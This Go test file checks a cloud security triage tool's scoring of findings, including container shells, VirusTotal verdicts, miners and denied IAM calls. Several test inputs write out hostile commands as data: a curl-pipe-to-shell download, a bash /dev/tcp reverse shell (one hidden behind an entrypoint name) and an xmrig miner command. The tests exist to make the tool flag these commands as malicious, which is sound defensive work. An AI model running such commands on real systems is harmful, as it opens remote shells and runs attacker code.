package assess

import (
	"slices"
	"testing"
	"time"

	"github.com/scc-enricher/scc-enricher/pkg/evidence"
	"github.com/scc-enricher/scc-enricher/pkg/finding"
)

func TestAssessScenarios(t *testing.T) {
	t.Parallel()
	p := mustDefault(t)
	with := func(e *evidence.Evidence, change func(*evidence.Evidence)) *evidence.Evidence {
		change(e)
		return e
	}
	as := func(f *finding.Finding, change func(*finding.Finding)) *finding.Finding {
		change(f)
		return f
	}
	vt := func(v evidence.Verdict, malicious int) func(*evidence.Evidence) {
		return func(e *evidence.Evidence) {
			e.Reputations = []evidence.Reputation{{
				Artifact: evidence.Artifact{Kind: "file", Value: hash("c"), Role: "binary", Path: "/tmp/x"},
				State:    evidence.OK, Verdict: v, Malicious: malicious, Engines: 70, Label: "trojan.mirai",
			}}
		}
	}
	malware := func() *finding.Finding {
		return as(childShell("java", "/tmp/x"), func(f *finding.Finding) {
			f.Category = "Execution: Added Malicious Binary Executed"
			f.Processes[1].Binary = &finding.File{Path: "/tmp/x", SHA256: hash("c")}
		})
	}
	tests := []struct {
		name     string
		in       Input
		verdict  Verdict
		priority string
		action   Action
		reasons  []string
		absent   []string
	}{
		{
			name:    "entrypoint_after_deploy",
			in:      input(childShell("java", "sh", "-c", "./docker-entrypoint.sh"), deployed(complete(), "alice@example.com", 3)),
			verdict: LikelyBenign, priority: "p4", action: CloseAsExpected,
			reasons: []string{"entrypoint_script", "configured_command", "fresh_deploy"},
			absent:  []string{"server_spawned_shell"},
		},
		{
			name: "entrypoint_after_deploy_not_configured",
			in: input(childShell("java", "sh", "-c", "./docker-entrypoint.sh"), with(deployed(complete(), "alice@example.com", 3), func(e *evidence.Evidence) {
				e.Config.Containers[0].Command = nil
			})),
			verdict: Suspicious, priority: "p2", action: Investigate,
			absent: []string{"entrypoint_script"},
		},
		{
			name: "entrypoint_after_deploy_by_npm",
			in: input(as(childShell("node", "sh", "-c", "./docker-entrypoint.sh"), func(f *finding.Finding) {
				f.Processes[0].Args = []string{"npm", "start"}
			}), with(deployed(complete(), "alice@example.com", 3), func(e *evidence.Evidence) { e.Config.Containers[0].Command = nil })),
			verdict: LikelyBenign, priority: "p4", action: VerifyWithOwner,
			reasons: []string{"entrypoint_script"},
		},
		{
			name: "entrypoint_without_virustotal",
			in: input(childShell("java", "sh", "-c", "./docker-entrypoint.sh"), with(deployed(complete(), "alice@example.com", 3), func(e *evidence.Evidence) {
				e.VTState, e.Reputations = evidence.Status{State: evidence.Disabled}, nil
			})),
			verdict: LikelyBenign, priority: "p4", action: CloseAsExpected,
		},
		{
			name: "entrypoint_logs_not_visible",
			in: input(childShell("java", "sh", "-c", "./docker-entrypoint.sh"), with(complete(), func(e *evidence.Evidence) {
				e.Logs, e.LogsState = evidence.Logs{}, evidence.Status{State: evidence.Empty}
			})),
			verdict: Unknown, priority: "p3", action: VerifyWithOwner,
		},
		{
			name: "entrypoint_deployed_by_newcomer",
			in: input(childShell("java", "sh", "-c", "./other-entrypoint.sh"), with(deployed(complete(), "mallory@example.com", 3), func(e *evidence.Evidence) {
				e.Config.Previous.Creator = "bob@example.com"
			})),
			verdict: Suspicious, priority: "p2", action: Investigate,
			reasons: []string{"deploy_by_newcomer"}, absent: []string{"fresh_deploy"},
		},
		{
			name:    "bare_shell_public_java",
			in:      input(childShell("java", "bash"), complete()),
			verdict: LikelyMalicious, priority: "p1", action: ContainNow,
			reasons: []string{"bare_shell", "exposure_public"}, absent: []string{"server_spawned_shell"},
		},
		{
			name:    "interactive_shell_public_java",
			in:      input(childShell("java", "sh", "-i"), complete()),
			verdict: LikelyMalicious, priority: "p1", action: ContainNow,
		},
		{
			name:    "download_and_execute",
			in:      input(childShell("java", "sh", "-c", "curl -s http://203.0.113.9/x.sh | sh"), complete()),
			verdict: Malicious, priority: "p1", action: ContainNow,
			reasons: []string{"download_and_execute"},
		},
		{
			name:    "reverse_shell_command",
			in:      input(childShell("node", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"), complete()),
			verdict: Malicious, priority: "p1", action: ContainNow,
			reasons: []string{"reverse_shell"},
		},
		{
			name: "entrypoint_name_hides_reverse_shell",
			in: input(childShell("java", "sh", "-c", "./docker-entrypoint.sh; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
				deployed(complete(), "alice@example.com", 3)),
			verdict: Malicious, priority: "p1", action: ContainNow,
			absent: []string{"entrypoint_script"},
		},
		{
			name: "reverse_shell_detector_nothing_answers",
			in: input(as(childShell("java"), func(f *finding.Finding) {
				f.Category, f.Processes = "Reverse Shell", nil
				f.ReverseShell = &finding.ReverseShell{DestinationIP: "203.0.113.9", DestinationPort: 4444}
			}), silent(evidence.Timeout)),
			verdict: Malicious, priority: "p1", action: ContainNow,
			reasons: []string{"reverse_shell_remote"},
		},
		{
			name: "reverse_shell_to_private_address_is_no_remote",
			in: input(as(childShell("java"), func(f *finding.Finding) {
				f.Category, f.Severity = "Reverse Shell", finding.Medium
				f.ReverseShell = &finding.ReverseShell{DestinationIP: "10.0.0.9"}
			}), complete()),
			verdict: Malicious, priority: "p1", action: ContainNow,
			absent: []string{"reverse_shell_remote"},
		},
		{
			name:    "malicious_binary_known_to_virustotal",
			in:      input(malware(), with(complete(), vt(evidence.VerdictMalicious, 50))),
			verdict: Malicious, priority: "p1", action: ContainNow,
			reasons: []string{"vt_malicious", "temp_execution"},
		},
		{
			name: "malicious_binary_virustotal_quota",
			in: input(malware(), with(complete(), func(e *evidence.Evidence) {
				e.Reputations, e.VTState = nil, evidence.Status{State: evidence.Quota, RetryAt: event().Truncate(24 * time.Hour).Add(24 * time.Hour)}
			})),
			verdict: LikelyMalicious, priority: "p1", action: ContainNow,
			absent: []string{"vt_malicious", "vt_clean"},
		},
		{
			name:    "malicious_binary_unknown_to_virustotal",
			in:      input(malware(), with(complete(), vt(evidence.VerdictNotFound, 0))),
			verdict: LikelyMalicious, priority: "p1", action: ContainNow,
			reasons: []string{"vt_not_found"},
		},
		{
			name: "reputation_that_did_not_answer_is_ignored",
			in: input(malware(), with(complete(), func(e *evidence.Evidence) {
				vt(evidence.VerdictMalicious, 60)(e)
				e.Reputations[0].State, e.VTState.State = evidence.Timeout, evidence.Timeout
			})),
			verdict: LikelyMalicious, priority: "p1", action: ContainNow,
			absent: []string{"vt_malicious"},
		},
		{
			name: "related_reverse_shell_undoes_explanation",
			in: input(childShell("java", "sh", "-c", "./docker-entrypoint.sh"), deployed(complete(), "alice@example.com", 3),
				other("Reverse Shell")),
			verdict: Malicious, priority: "p1", action: ContainNow,
			reasons: []string{"related_findings", "related_stronger", "incident_tactics"},
		},
		{
			name: "related_of_the_same_kind_keeps_explanation",
			in: known(p, input(childShell("java", "sh", "-c", "./docker-entrypoint.sh"), deployed(complete(), "alice@example.com", 3),
				as(other("Unexpected Child Shell"), func(f *finding.Finding) { f.Processes[1].Args = []string{"sh", "-c", "./docker-entrypoint.sh"} })), deployed(complete(), "alice@example.com", 3)),
			verdict: LikelyBenign, priority: "p4", action: CloseAsExpected,
		},
		{
			name: "probe_of_the_container",
			in: input(as(childShell("java", "/bin/health", "--fast"), func(f *finding.Finding) { f.Severity = finding.Medium }),
				deployed(complete(), "alice@example.com", 2)),
			verdict: LikelyBenign, priority: "p4", action: CloseAsExpected,
			reasons: []string{"configured_probe"},
		},
		{
			name: "miner_in_the_job_of_a_control_plane_finding",
			in: input(&finding.Finding{
				CanonicalName: "projects/1/sources/2/findings/3", Category: "Impact: Cryptomining Commands", Severity: finding.High, EventTime: event(),
				Access:   finding.Access{Principal: "bob@example.com", MethodName: "google.cloud.run.v1.Jobs.RunJob"},
				Workload: finding.Workload{Project: "shop-prod", Location: "europe-west1", Kind: finding.Job, Name: "batch", Execution: "batch-x1"},
			}, with(complete(), func(e *evidence.Evidence) {
				e.Config.Containers[0].Command = []string{"xmrig", "-o", "stratum+tcp://pool.example.org:3333", "-u", "wallet"}
			})),
			verdict: Malicious, priority: "p1", action: ContainNow,
			reasons: []string{"miner"},
		},
		{
			name: "denied_api_call",
			in: input(&finding.Finding{
				CanonicalName: "projects/1/sources/2/findings/3", Category: "Privilege Escalation: Default Compute Engine Service Account SetIAMPolicy",
				Severity: finding.Low, EventTime: event(),
				Access:   finding.Access{Principal: "1-compute@developer.gserviceaccount.com", MethodName: "google.cloud.run.v1.Services.SetIamPolicy"},
				Workload: finding.Workload{Project: "shop-prod", Location: "europe-west1", Kind: finding.Service, Name: "pay"},
			}, with(complete(), func(e *evidence.Evidence) {
				e.Logs.Entries = append(e.Logs.Entries, evidence.LogEntry{Kind: evidence.LogAudit, Time: event(), Audit: &evidence.Audit{
					Method: "google.cloud.run.v2.Services.SetIamPolicy", Principal: "1-compute@developer.gserviceaccount.com", Code: 7,
				}})
			})),
			verdict: Unknown, priority: "p4", action: VerifyWithOwner,
			reasons: []string{"request_denied"},
		},
		{
			name: "nothing_at_all",
			in:   Input{}, verdict: Unknown, priority: "p4", action: VerifyWithOwner,
		},
		{
			name: "low_finding_nothing_answers",
			in: input(as(childShell("java"), func(f *finding.Finding) {
				f.Category, f.Severity, f.Processes = "Execution: Program Run with Disallowed HTTP Proxy Env", finding.Low, nil
			}), silent(evidence.Timeout)),
			verdict: Unknown, priority: "p4", action: WaitForEvidence,
		},
		{
			name:    "critical_finding_nothing_answers",
			in:      input(as(childShell("java"), func(f *finding.Finding) { f.Processes = nil }), silent(evidence.Error)),
			verdict: Suspicious, priority: "p3", action: Investigate,
		},
		{
			name: "deleted_workload",
			in: input(childShell("java", "sh", "-c", "curl http://203.0.113.9/x | sh"), with(complete(), func(e *evidence.Evidence) {
				e.Config, e.ConfigState = &evidence.Config{Gone: true}, evidence.Status{State: evidence.Empty}
			})),
			verdict: Malicious, priority: "p1", action: ContainNow,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			a := p.Assess(tt.in)
			if a.Verdict != tt.verdict || a.Priority != tt.priority || a.NextAction != tt.action {
				t.Errorf("Assess() = %s %s %s, want %s %s %s\n%s", a.Verdict, a.Priority, a.NextAction, tt.verdict, tt.priority, tt.action, explain(a))
			}
			for _, id := range tt.reasons {
				if !slices.Contains(ids(a), id) {
					t.Errorf("rule %s did not fire: %s", id, explain(a))
				}
			}
			for _, id := range tt.absent {
				if slices.Contains(ids(a), id) {
					t.Errorf("rule %s fired: %s", id, explain(a))
				}
			}
			if len(a.Summary) > maxSummary || a.Summary == "" {
				t.Errorf("summary of %d bytes: %q", len(a.Summary), a.Summary)
			}
			t.Log(a.Summary)
		})
	}
}

// TestEquallyStrongCompany holds that of two equally strong findings the same
// one is named, whatever their order.
func TestEquallyStrongCompany(t *testing.T) {
	t.Parallel()
	p := mustDefault(t)
	a, b := other("Privilege Escalation: Abuse of Sudo For Privilege Escalation (CVE-2019-14287)"), other("Execution: Fileless Execution in /memfd:")
	for _, pair := range [][]*finding.Finding{{a, b}, {b, a}} {
		f := p.incidentFacts([]Standing{{OwnScore: 50}, {OwnScore: 50}}, pair)
		if got := f.getText("incident.strongest_category"); got != b.Category {
			t.Errorf("strongest category is %q, want %q", got, b.Category)
		}
	}
}

// TestDecisive holds that explanations count for nothing once a decisive rule
// fired, or when a rule that could have been one was not evaluated.
func TestDecisive(t *testing.T) {
	t.Parallel()
	p := &Policy{caps: map[string]span{"command": {-40, 40}}, explained: 50}
	up, down := fired{rule: &rule{id: "up", source: "command"}, points: 30}, fired{rule: &rule{id: "down", source: "command"}, points: -20}
	grave := fired{rule: &rule{id: "grave", source: "command", decisive: true}, points: 10}
	tests := []struct {
		name           string
		hits           []fired
		failed         []string
		sum, explained int
	}{
		{"explained", []fired{up, down}, nil, 10, 20},
		{"decisive", []fired{up, down, grave}, nil, 40, 0},
		{"failed", []fired{up, down}, []string{"broken"}, 30, 0},
	}
	for _, tt := range tests {
		if got := p.tally(tt.hits, tt.failed); got.sum != tt.sum || got.explained != tt.explained {
			t.Errorf("%s: tally = %d, explained %d, want %d, %d", tt.name, got.sum, got.explained, tt.sum, tt.explained)
		}
	}
}
